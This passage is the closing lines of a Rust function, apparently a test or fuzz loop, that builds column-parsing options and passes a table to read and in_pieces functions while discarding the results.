            let choice = Columns { separator, header: true, text: Some(text % 4), ..Columns::default() };
            let _ = (read(&table), in_pieces(&[&table], Some(choice), &Limits::default()));
        }
    }
}
